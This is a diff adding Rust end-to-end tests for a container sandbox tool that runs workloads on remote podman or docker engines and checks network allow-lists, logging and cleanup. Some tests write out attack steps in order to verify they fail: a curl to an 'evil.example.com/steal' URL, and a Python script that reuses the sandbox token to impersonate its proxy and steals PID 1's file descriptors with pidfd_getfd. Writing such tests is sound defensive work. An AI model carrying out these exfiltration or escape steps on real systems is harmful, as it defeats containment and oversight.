@@ -1,0 +1,255 @@
+//! Engines in another machine. There is none here, but a client that knows its engine over a network only
+//! does with it what it would do then; and the podman that is called so cannot see this user's runtime
+//! and cache directories, so that no file and no socket there is of any use to its containers.
+
+use std::{
+    env, fs, io,
+    net::{Shutdown, TcpListener, TcpStream},
+    os::unix::net::UnixStream,
+    path::PathBuf,
+    process::{Child, Command, Stdio},
+    thread,
+    time::Duration,
+};
+
+use rustix::process::Signal;
+
+use crate::outside::Outside;
+use crate::setup::{DEBIAN, Run, Setup, eventually};
+
+/// Makes two tests of one function: `name::podman` and `name::docker`.
+macro_rules! on_engines_elsewhere {
+    ($(fn $name:ident($far:ident) $body:block)*) => {
+        $(mod $name {
+            use super::*;
+
+            fn claim($far: &Far) $body
+
+            #[test]
+            fn podman() { claim(&Far::podman()); }
+
+            #[test]
+            fn docker() { claim(&Far::docker()); }
+        })*
+    };
+}
+
+on_engines_elsewhere! {
+    fn an_allowed_host_is_reached_and_recorded_from_another_machine(far) {
+        let outside = Outside::new(&["api.example.com"]);
+        let run = far.run().image(DEBIAN).origin(&outside.origin, &["api.example.com"])
+            .sh("curl -sS -o /dev/null -w '%{http_code}\\n' https://api.example.com/echo; openssl s_client -brief -connect api.example.com:443 </dev/null 2>&1 | grep -c 'Verification: OK'; cat /etc/hosts | head -1");
+        let ended = run.end();
+        assert_eq!((ended.code, ended.stdout.as_str()), (0, "200\n1\n127.0.0.1 localhost\n"), "{ended:?} {}", run.network_log());
+        assert!(ended.stderr.contains("connected by a proxy container"), "{ended:?}");
+        let log = run.network_log();
+        assert!(log.contains("ALLOWED GET https://api.example.com/echo -> 200"), "{log}");
+        assert_eq!(far.left_by(ended.pid), Vec::<String>::new());
+    }
+
+    fn a_host_that_is_not_listed_is_refused_and_recorded_from_another_machine(far) {
+        let outside = Outside::new(&["evil.example.com"]);
+        let run = far.run().image(DEBIAN).origin(&outside.origin, &["api.example.com"])
+            .sh("curl -sS -o /dev/null -w '%{http_code}\\n' https://evil.example.com/steal");
+        let ended = run.end();
+        assert_eq!(ended.stdout, "403\n", "{ended:?}");
+        assert_eq!(outside.origin.connections(), 0);
+        assert!(run.network_log().contains("BLOCKED GET https://evil.example.com/steal -> 403"), "{}", run.network_log());
+    }
+
+    fn input_output_and_exit_code_pass_from_another_machine(far) {
+        let run = far.run().flags(["--profile", "strict"]).input("from here").sh("cat; echo there >&2; exit 42");
+        let ended = run.end();
+        assert_eq!((ended.code, ended.stdout.as_str()), (42, "from here"), "{ended:?}");
+        assert!(ended.stderr.ends_with("there\n"), "{ended:?}");
+        assert_eq!(far.left_by(ended.pid), Vec::<String>::new());
+    }
+
+    fn when_the_host_process_is_killed_containers_in_another_machine_die_and_the_next_run_cleans_up(far) {
+        let running = far.run().start_script("trap '' TERM INT HUP; while :; do sleep 0.1; done");
+        let pid = running.pid();
+        assert_eq!(far.setup.containers_of(pid).len(), 2);
+        assert!(far.left_by(pid).iter().any(|left| left.starts_with("volume ")));
+        running.signal(Signal::KILL);
+        running.end();
+        eventually("both containers are gone", Duration::from_secs(10), || far.setup.containers_of(pid).is_empty());
+        let next = far.run().command(["true"]).end();
+        assert_eq!(next.code, 0, "{next:?}");
+        assert_eq!(far.left_by(pid), Vec::<String>::new());
+        assert_eq!(far.left_by(next.pid), Vec::<String>::new());
+    }
+
+    fn a_run_in_another_machine_whose_proxy_is_lost_fails_and_its_command_ends(far) {
+        let running = far.run().start_script("sleep 300");
+        let pid = running.pid();
+        let names = far.setup.containers_of(pid);
+        let name = names.iter().find(|name| name.ends_with("-proxy")).unwrap();
+        far.setup.ask(&["kill", name]);
+        let ended = running.end();
+        assert_eq!(ended.code, 125, "{ended:?}");
+        assert!(ended.stderr.contains("the proxy container was lost"), "{ended:?}");
+        assert_eq!(far.left_by(pid), Vec::<String>::new());
+    }
+
+    fn stop_and_timeout_leave_nothing_in_another_machine(far) {
+        let ended = far.run().flags(["--timeout", "4"]).sh("trap '' TERM; while :; do sleep 1; done").end();
+        assert_eq!(ended.code, 124, "{ended:?}");
+        assert_eq!(far.left_by(ended.pid), Vec::<String>::new());
+        let running = far.run().start_script("sleep 300");
+        let pid = running.pid();
+        running.signal(Signal::TERM);
+        assert_eq!(running.end().code, 143);
+        assert_eq!(far.left_by(pid), Vec::<String>::new());
+    }
+
+    fn nobody_in_the_workload_takes_the_keepers_place(far) {
+        let script = r#"
+import ctypes, errno, os, socket, subprocess
+proxy = open("/etc/resolv.conf").read().split()[1]
+token = open("/.cordon/door/token", "rb").read()
+assert len(token) == 32
+for attempt in range(20):
+    try:
+        with socket.create_connection((proxy, 7700), timeout=2) as s:
+            s.sendall(token + b"\x02E\x00\x00\x00\x00\x00\x00\x00\x00")
+            print("taken")
+    except OSError as error:
+        print(type(error).__name__)
+    if attempt == 0:
+        print(subprocess.run(["/.cordon/init", "far", f"{proxy}:7700", "/.cordon/door/token"], stderr=subprocess.DEVNULL).returncode)
+libc = ctypes.CDLL(None, use_errno=True)
+init = os.pidfd_open(1)
+for descriptor in range(3, 10):
+    taken = libc.syscall(438, init, descriptor, 0) # pidfd_getfd
+    print("got it" if taken >= 0 else errno.errorcode[ctypes.get_errno()])
+"#;
+        let run = far.run().image(DEBIAN).sh("python3 -c \"$0\" | sort | uniq -c | sed 's/^ *//'; exit 7").command_with(&[script]);
+        let ended = run.end();
+        assert_eq!((ended.code, ended.stdout.as_str()), (7, "1 125\n20 ConnectionRefusedError\n7 EPERM\n"), "{ended:?}");
+    }
+
+    fn what_needs_sockets_or_pipes_handed_over_is_refused_with_a_hint_in_another_machine(far) {
+        let refused = far.run().flags(["--topology", "door"]).command(["true"]).end();
+        assert_eq!(refused.code, 125, "{refused:?}");
+        assert!(refused.stderr.contains("the door cannot be opened"), "{refused:?}");
+        assert!(refused.stderr.contains("hint: use --topology proxy-container"), "{refused:?}");
+
+        let refused = far.aim(Run::session(far.setup)).end();
+        assert_ne!(refused.code, 0, "{refused:?}");
+        assert!(refused.stderr.contains("no session can be held"), "{refused:?}");
+        assert!(refused.stderr.contains("hint: run each command by itself"), "{refused:?}");
+
+        let refused = far.run().flags(["--no-network"]).command(["true"]).end();
+        assert_eq!(refused.code, 125, "{refused:?}");
+        assert!(refused.stderr.contains("only one with a network policy can be kept"), "{refused:?}");
+        assert!(refused.stderr.contains("hint: leave --no-network out"), "{refused:?}");
+        assert_eq!(far.left_by(refused.pid), Vec::<String>::new());
+    }
+}
+
+/// An engine that is called over TCP.
+struct Far {
+    setup: Setup,
+    address: String,
+    service: Option<Child>,
+}
+
+impl Far {
+    fn podman() -> Self {
+        let port = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = port.local_addr().unwrap().port();
+        let address = format!("tcp://127.0.0.1:{port}");
+        let cache = env::var_os("XDG_CACHE_HOME").map(PathBuf::from);
+        let cache = cache.unwrap_or_else(|| env::home_dir().unwrap().join(".cache"));
+        let hidden = [Setup::Podman.runtime(), cache.join("cordon")];
+        for directory in &hidden {
+            fs::create_dir_all(directory).unwrap();
+        }
+        // Others use podman at the same time, and must see the networks of its containers: those are mounted
+        // below a directory that is shared between namespaces once `ip` has used it.
+        let name = format!("cordon-e2e-{port}");
+        for verb in ["add", "del"] {
+            let done = Command::new("ip").args(["netns", verb, &name]).status();
+            assert!(done.unwrap().success());
+        }
+        let script = "for hidden in \"$1\" \"$2\"; do \
+                      mount --make-private \"$(findmnt -n -o TARGET --target \"$hidden\")\" && \
+                      mount -t tmpfs none \"$hidden\" || exit; done; \
+                      exec podman --runtime runc system service --time 0 \"$0\"";
+        let service = Command::new("unshare")
+            .args(["--mount", "--propagation", "unchanged", "sh", "-c", script])
+            .arg(&address)
+            .args(&hidden)
+            .stdin(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        eventually("podman serves", Duration::from_secs(20), || {
+            TcpStream::connect(("127.0.0.1", port)).is_ok()
+        });
+        Self {
+            setup: Setup::Podman,
+            address,
+            service: Some(service),
+        }
+    }
+
+    fn docker() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let address = format!("tcp://{}", listener.local_addr().unwrap());
+        thread::spawn(move || {
+            for client in listener.incoming().map_while(Result::ok) {
+                let daemon = UnixStream::connect("/var/run/docker.sock").unwrap();
+                let (mut from, mut to) = (client.try_clone().unwrap(), daemon.try_clone().unwrap());
+                thread::spawn(move || {
+                    drop(io::copy(&mut from, &mut to));
+                    to.shutdown(Shutdown::Write)
+                });
+                let (mut from, mut to) = (daemon, client);
+                thread::spawn(move || {
+                    drop(io::copy(&mut from, &mut to));
+                    to.shutdown(Shutdown::Write)
+                });
+            }
+        });
+        Self {
+            setup: Setup::Docker,
+            address,
+            service: None,
+        }
+    }
+
+    /// A run on it.
+    fn run(&self) -> Run {
+        self.aim(Run::new(self.setup))
+    }
+
+    fn aim(&self, run: Run) -> Run {
+        let variable = match self.setup {
+            Setup::Podman | Setup::Rootless => "CONTAINER_HOST",
+            Setup::Docker => "DOCKER_HOST",
+        };
+        run.env(variable, &self.address)
+    }
+
+    /// Everything that the process with this id left, networks and volumes among it.
+    fn left_by(&self, pid: u32) -> Vec<String> {
+        let mark = format!("-{pid}-");
+        let mut left = self.setup.left_by(pid);
+        for kind in ["network", "volume"] {
+            let listed = self.setup.ask(&[kind, "ls", "--format", "{{.Name}}"]);
+            let names = listed.lines().filter(|name| name.contains(&mark));
+            left.extend(names.map(|name| format!("{kind} {name}")));
+        }
+        left
+    }
+}
+
+impl Drop for Far {
+    fn drop(&mut self) {
+        if let Some(service) = &mut self.service {
+            service.kill().unwrap();
+            service.wait().unwrap();
+        }
+    }
+}
